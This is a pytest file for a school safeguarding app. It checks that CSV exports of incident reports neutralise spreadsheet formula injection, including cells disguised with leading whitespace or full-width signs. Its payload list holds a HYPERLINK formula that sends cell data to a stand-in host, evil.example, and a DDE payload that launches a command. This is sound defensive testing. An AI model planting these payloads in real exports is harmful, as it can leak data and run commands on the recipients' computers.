"""Attack 11: CSV cells that a spreadsheet would still run as a formula (a leading line feed, space,
no-break space or a full-width sign) are neutralised like "=" itself."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest

from pupil_app.csv_export import neutralise
from pupil_app.schools.models import Role

from .concern_flow import csrf_of
from .helpers import Ids

PAYLOADS = [
    "\n=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    " =1+1",
    "\u00a0=cmd|' /C calc'!A0",
    "\uff1dHYPERLINK(\"http://evil.example\")",
    "\uff0bSUM(1,2)",
    "\uff0d2+3",
    "\uff20SUM(A1)",
    "\u3000=1+1",
    "\r\n+2+3",
    "\t=1",
    "=1+1",
    "@SUM(A1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_neutralised(payload):
    assert neutralise(payload) == "'" + payload


def test_plain_text_and_numbers_are_left_alone():
    assert neutralise("Ms Jones") == "Ms Jones" and neutralise(" Ms Jones") == " Ms Jones"
    assert neutralise(42) == 42 and neutralise("Zoë") == "Zoë"


def test_an_incident_written_to_attack_the_dsls_spreadsheet_is_exported_as_text(app, login_as, make_school,
                                                                                  make_staff):
    school = make_school()
    teacher, dsl = app.test_client(), app.test_client()
    login_as(make_staff(Role.TEACHER, school=Ids(id=school.id)), test_client=teacher)
    login_as(make_staff(Role.DSL, school=Ids(id=school.id)), test_client=dsl)
    for n, payload in enumerate(PAYLOADS[:8]):
        page = teacher.get("/staff/incidents/new").get_data(as_text=True)
        key = re.search(r'name="key" type="hidden" value="([^"]+)"', page).group(1)
        r = teacher.post("/staff/incidents/new", data={
            "csrf_token": csrf_of(page), "key": key, "occurred_on": date.today().isoformat(),
            "location": payload.strip() or f"Room {n}", "description": payload, "action": payload})
        assert r.status_code == 303, payload
    body = dsl.get("/staff/incident-log.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))[1:]
    assert len(rows) == 8
    for row in rows:
        for cell in row[1:4]:  # where, description, action
            first = cell.lstrip()[:1]
            assert cell.startswith("'") or first not in "=+-@\uff1d\uff0b\uff0d\uff20", repr(cell)
